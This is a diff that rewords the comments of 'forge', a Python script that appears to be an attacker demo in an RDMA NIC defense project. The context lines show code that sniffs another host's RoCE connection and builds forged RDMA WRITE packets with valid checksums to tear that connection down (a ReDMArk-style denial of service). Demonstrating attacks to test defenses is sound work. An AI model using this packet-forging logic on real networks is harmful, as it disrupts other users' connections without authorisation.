@@ -1,12 +1,12 @@
 #!/usr/bin/python3
 # SPDX-License-Identifier: GPL-2.0
-"""forge - kill someone else's RC connection with one packet (ReDMArk, NeVerMore).
+"""forge - end someone else's RC connection with one packet (ReDMArk, NeVerMore).
 
-The attacker of the demo: it can see the wire and put packets on it, and knows no
-key. It follows one direction of one connection, waits until the wire is silent,
-and then sends RDMA WRITEs to a memory key that does not exist, with the PSN that
-the receiver expects next. A receiver without a seal must answer with a NAK and
-move the QP to ERR (IBA 9.7.4.1.1); behind a seal the packets are noise.
+The attacker of the demo: it can observe the wire and inject packets, and has no key. It
+follows one direction of a connection, waits until the wire is silent, and then sends RDMA
+WRITEs to an rkey that does not exist, with the PSN that the receiver expects next. A
+receiver without a seal must answer with a NAK and move the QP to ERR (IBA 9.7.4.1.1); with
+a seal, the receiver drops the packets.
 
 Examples:
   in a srnic-forge --dev va --from 10.77.0.1 --to 10.77.0.2
@@ -33,7 +33,7 @@ PSN_MASK = 0xFFFFFF
 
 
 class Victim:
-    """What a bystander learns of a connection: numbers that every packet shows."""
+    """What a bystander learns of a connection: values that each packet shows."""
 
     def __init__(self):
         self.qpn = None
@@ -42,7 +42,7 @@ class Victim:
         self.mtu = 1024
 
     def watch(self, frame, src, dst):
-        """Takes one Ethernet frame; returns True if it was a request of the flow."""
+        """Parse an Ethernet frame; return True if it was a request of the flow."""
         if len(frame) < 14 + 20 + 8 + 12 or frame[12:14] != struct.pack("!H", ETH_P_IP):
             return False
         ihl = (frame[14] & 15) * 4
@@ -77,7 +77,7 @@ def icrc(ip, udp, body):
     udp = bytearray(udp)
     udp[6:8] = b"\xff\xff"
     body = bytearray(body)
-    body[4:5] = b"\xff" * len(body[4:5])     # congestion bits, where there are any
+    body[4:5] = b"\xff" * len(body[4:5])     # congestion bits, if present
     return struct.pack("<I", zlib.crc32(b"\xff" * 8 + ip + udp + body))
 
 
@@ -89,7 +89,7 @@ def ip_checksum(header):
 
 
 def forged_write(victim, psn, sth_code):
-    """A WRITE ONLY of 16 bytes to a key that nobody has, as `victim`'s peer would send it."""
+    """Return a WRITE ONLY of 16 bytes to a nonexistent rkey, as `victim`'s peer would send it."""
     eth = victim.frame[:14]
     bth = struct.pack("!BBHIBBH", RC_WRITE_ONLY, 0x40, 0xFFFF, victim.qpn,
                       0x80 | sth_code << 4, psn >> 16, psn & 0xFFFF)
@@ -108,7 +108,7 @@ def forged_write(victim, psn, sth_code):
 
 
 def follow(sock, src, dst, quiet, limit, mtu):
-    """Watches until the flow has been silent for `quiet` seconds; at most `limit`."""
+    """Observe until the flow has been silent for `quiet` seconds; at most `limit`."""
     victim = Victim()
     victim.mtu = mtu
     start = last = time.monotonic()
